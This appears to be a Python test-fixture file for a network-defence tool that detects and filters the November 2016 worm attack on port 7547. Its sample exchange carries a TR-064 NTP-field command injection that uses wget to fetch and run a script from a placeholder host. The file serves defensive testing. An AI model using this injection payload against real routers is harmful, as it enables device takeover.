"""Exchanges and a border by hand: what dialogues and the filter's room would give."""

from __future__ import annotations

from ipaddress import ip_address
from typing import Any

from rearguard.contacts.view import RECORD_BITS
from rearguard.dialogue.exchange import Exchange, Hit, Proof
from rearguard.filters.border import Border, EdgeFilter
from rearguard.filters.model import Filter
from rearguard.filters.replay import NotStoppable, Replay
from rearguard.filters.what_if import WhatIf
from rearguard.model.address import halves

ATTACKER = "203.0.113.66"
FELL = "198.51.100.15"
START = 1_480_154_400_000_000_000  # 2016-11-26 10:00:00 UTC
SECOND = 1_000_000_000


def proof(record: int, at: int, from_server: bool = False) -> Proof:
    """A packet of the first source."""
    return Proof(START + at * SECOND, (0 << RECORD_BITS) | record, from_server)


def exchange(client: str = ATTACKER, server: str = FELL, at: int = 60, **more: Any) -> Exchange:
    """An attack on the Connection Request port that the device answered, unless told otherwise."""
    client_hi, client_lo = halves(ip_address(client))
    server_hi, server_lo = halves(ip_address(server))
    values: dict[str, Any] = {
        "client_hi": client_hi,
        "client_lo": client_lo,
        "client_port": 40123,
        "server_hi": server_hi,
        "server_lo": server_lo,
        "port": 7547,
        "proto": 6,
        "observer": 0,
        "sampling": 1,
        "first": START + at * SECOND,
        "last": START + (at + 1) * SECOND,
        "complete": True,
        "incidental": False,
        "roles": "handshake",
        "speaks": "http",
        "identity": "cwmp-cr",
        "answer": "soap",
        "status": 200,
        "method": "POST",
        "path": "/UD/act?1",
        "login": "",
        "hits": (
            Hit(
                "tr064-ntp-injection",
                proof(501, at),
                "<NewNTPServer1>`cd /tmp;wget http://198.18.55.5/1;sh 1`</NewNTPServer1>",
                ("198.18.55.5",),
                ("http://198.18.55.5/1",),
            ),
        ),
        "secrets": (),
        "inform": None,
        "rpcs": (),
        "fetch": (),
        "asked": proof(500, at),
        "answered": proof(503, at, from_server=True),
        **more,
    }
    return Exchange(**values)


TEXT = """table inet rearguard {
\tset guarded4 { type ipv4_addr; flags interval; elements = { 198.51.100.0/24 } }
\tchain entering_v4 { ip daddr @guarded4 tcp dport 7547 counter drop comment "worm of 26 November"; }
}
"""


def what_if(interface: str = "telnet", **more: Any) -> WhatIf:
    """A drop that would have stopped something."""
    values: dict[str, Any] = {
        "interface": interface,
        "initiations_dropped": 29,
        "remotes": 1,
        "devices": 29,
        "authorised_dropped": 0,
        "collateral_dropped": 0,
        "needs_consent": False,
        "text": f"Dropping {interface} would have stopped 29 initiations by 1 stranger toward 29 devices",
        "breaks": "Very few customers.",
        **more,
    }
    return WhatIf(**values)


def not_stoppable(reason: str = "outbound", what_can: str = "isolation of the device") -> NotStoppable:
    """Something that the filter lets through."""
    return NotStoppable(reason, contacts=39, initiations=41, what_can=what_can)


def replay(*notes: str, **more: Any) -> Replay:
    """Most was dropped, nothing that is authorised."""
    values: dict[str, Any] = {
        "initiations_dropped": 158,
        "passed": 29,
        "contacts_dropped": 158,
        "authorised_dropped": 0,
        "collateral_dropped": 0,
        "collateral_packets": 0,
        "unjudged": 3,
        "by_finding": {},
        "not_stoppable": (not_stoppable(),),
        "notes": notes,
        **more,
    }
    return Replay(**values)


def edge(text: str = TEXT, file: str = "border.nft") -> EdgeFilter:
    """The file of one edge."""
    return EdgeFilter(Filter("inside", (), (), (), "sha256:0", ()), file, text)


def border(**more: Any) -> Border:
    """A filter for the Connection Request port that stopped most of it."""
    values: dict[str, Any] = {
        "edges": (edge(),),
        "left": (),
        "replay": replay("replies to 2 clients of ours pass"),
        "not_stoppable": (not_stoppable(), not_stoppable("not-listed", "listing the interface under drop")),
        "what_ifs": (what_if(),),
        **more,
    }
    return Border(**values)


def nothing_dropped(*what_ifs: WhatIf) -> Border:
    """A policy without drops."""
    return border(edges=(), replay=None, what_ifs=what_ifs)
